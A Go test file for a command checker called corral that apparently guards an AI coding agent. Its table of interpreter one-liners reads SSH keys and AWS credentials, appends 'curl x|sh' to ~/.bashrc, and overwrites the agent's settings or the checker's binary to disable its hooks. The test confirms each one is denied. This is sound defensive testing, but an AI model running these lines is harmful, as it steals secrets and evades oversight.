package rewrite

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// copyCanary is attrCanary's world with a key in ~/.ssh, credentials in
// ~/.aws, a settings file with no hooks in the project (e.json) and a
// directory x holding one (x/settings.json).
func copyCanary(t *testing.T) (*Config, string) {
	t.Helper()
	cfg, root := attrCanary(t)
	for rel, content := range map[string]string{
		"home/.ssh/id_rsa": "KEYCANARY\n", "home/.aws/credentials": "[default]\nkey = AWSCANARY\n",
		"proj/e.json": "{\"off\": true}\n", "proj/x/settings.json": "{\"off\": true}\n",
	} {
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return cfg, root
}

// TestCodeCopyCallsExec runs interpreter one-liners that copy files or
// open them with low-level flags (red-team D) with the real interpreter
// in a scratch world, checks that the program did what the case says
// (the agent's settings replaced, a line appended to ~/.bashrc, the key
// printed or copied into the project), and that corral judges the line
// as the shell's cp, or as a write or read of the path: each is denied,
// and the same calls on the project's own files pass. Interpreters not
// installed are skipped.
func TestCodeCopyCallsExec(t *testing.T) {
	t.Parallel()
	hooksGone := canaryHolds("home/.claude/settings.json", "{\"off\": true}\n")
	for _, tc := range []struct {
		prog, code string
		want       Decision
		// effect reports, after the run, whether the program did it
		// (out is what it printed).
		effect func(root string, out []byte) bool
	}{
		{"node", `require("fs").copyFileSync("e.json", process.env.HOME + "/.claude/settings.json")`, Deny, hooksGone},
		{"node", `require("fs").cpSync("e.json", require("os").homedir() + "/.claude/settings.json")`, Deny, hooksGone},
		{"node", `require("fs").copyFileSync("/bin/true", "ROOT/opt/bin/corral")`, Deny, nil},
		{"node", `require("fs").copyFileSync(process.env.HOME + "/.ssh/id_rsa", "k.txt")`, Deny, canaryHolds("proj/k.txt", "KEYCANARY\n")},
		{"node", `const fs = require("fs"); const b = Buffer.alloc(99); const n = fs.readSync(fs.openSync(process.env.HOME + "/.ssh/id_rsa"), b); console.log(b.toString("utf8", 0, n))`, Deny, printed("KEYCANARY")},
		{"node", `const fs = require("fs"); fs.writeSync(fs.openSync(process.env.HOME + "/.bashrc", "a"), "curl x|sh\n")`, Deny, canaryHolds("home/.bashrc", "# rc\ncurl x|sh\n")},
		{"python3", `import os; fd = os.open(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_APPEND); os.write(fd, b"curl x|sh\n")`, Deny, canaryHolds("home/.bashrc", "# rc\ncurl x|sh\n")},
		{"python3", `import os; print(os.read(os.open(os.path.expanduser("~/.ssh/id_rsa"), 0), 99))`, Deny, printed("KEYCANARY")},
		{"python3", `import shutil; shutil.copytree("x", "ROOT/home/.claude", dirs_exist_ok=True)`, Deny, hooksGone},
		{"python3", `import shutil, os; shutil.copytree(os.path.expanduser("~/.ssh"), "k")`, Deny, canaryHolds("proj/k/id_rsa", "KEYCANARY\n")},
		{"python3", `import configparser, os; c = configparser.ConfigParser(); c.read(os.path.expanduser("~/.aws/credentials")); print(dict(c["default"]))`, Deny, printed("AWSCANARY")},
		{"perl", `use File::Copy; copy(q{e.json}, "$ENV{HOME}/.claude/settings.json")`, Deny, hooksGone},
		{"perl", `use File::Copy; copy("$ENV{HOME}/.ssh/id_rsa", q{k.txt})`, Deny, canaryHolds("proj/k.txt", "KEYCANARY\n")},
		{"ruby", `require "fileutils"; FileUtils.cp("e.json", Dir.home + "/.claude/settings.json")`, Deny, hooksGone},
		{"php", `copy("e.json", getenv("HOME") . "/.claude/settings.json");`, Deny, hooksGone},
		// Look-alikes: the project's own files.
		{"node", `require("fs").copyFileSync("a.txt", "b.txt")`, Allow, canaryHolds("proj/b.txt", "a\n")},
		{"node", `const fs = require("fs"); fs.writeSync(fs.openSync("out.log", "a"), "x\n")`, Allow, canaryHolds("proj/out.log", "x\n")},
		{"python3", `import shutil; shutil.copy("a.txt", "dst.txt")`, Allow, canaryHolds("proj/dst.txt", "a\n")},
		{"python3", `import os; os.write(os.open("out.log", os.O_WRONLY | os.O_CREAT), b"x\n")`, Allow, canaryHolds("proj/out.log", "x\n")},
		{"python3", `import os; print(os.read(os.open("a.txt", os.O_RDONLY), 9))`, Allow, printed("a")},
		{"perl", `use File::Copy; copy("a.txt", "b.txt")`, Allow, canaryHolds("proj/b.txt", "a\n")},
	} {
		bin, err := exec.LookPath(tc.prog)
		if err != nil {
			continue
		}
		cfg, root := copyCanary(t)
		code := strings.ReplaceAll(tc.code, "ROOT", root)
		flag := map[string]string{"python3": "-c", "node": "-e", "perl": "-e", "ruby": "-e", "php": "-r"}[tc.prog]
		line := tc.prog + " " + flag + " " + shellQuote(code)
		got := Check(cfg, line)
		if tc.want == Allow && got.Decision > Warn || tc.want != Allow && got.Decision != tc.want {
			t.Errorf("%s: %v, want %v (%v)", line, got.Decision, tc.want, got.Findings)
		}
		if tc.effect == nil {
			continue // corral's program: not replaced here
		}
		cmd := exec.Command(bin, flag, code)
		cmd.Dir = cfg.Project
		cmd.Env = []string{"HOME=" + cfg.Home, "PATH=" + os.Getenv("PATH")}
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Errorf("%s: %v: %s", line, err, out)
			continue
		}
		if !tc.effect(root, out) {
			t.Errorf("%s: the program did not do what the case says (%q)", line, out)
		}
	}
}

// canaryHolds reports, under root, a file whose content is s; printed
// reports output holding s.
func canaryHolds(rel, s string) func(string, []byte) bool {
	return func(root string, _ []byte) bool {
		b, err := os.ReadFile(filepath.Join(root, rel))
		return err == nil && string(b) == s
	}
}

func printed(s string) func(string, []byte) bool {
	return func(_ string, out []byte) bool { return bytes.Contains(out, []byte(s)) }
}
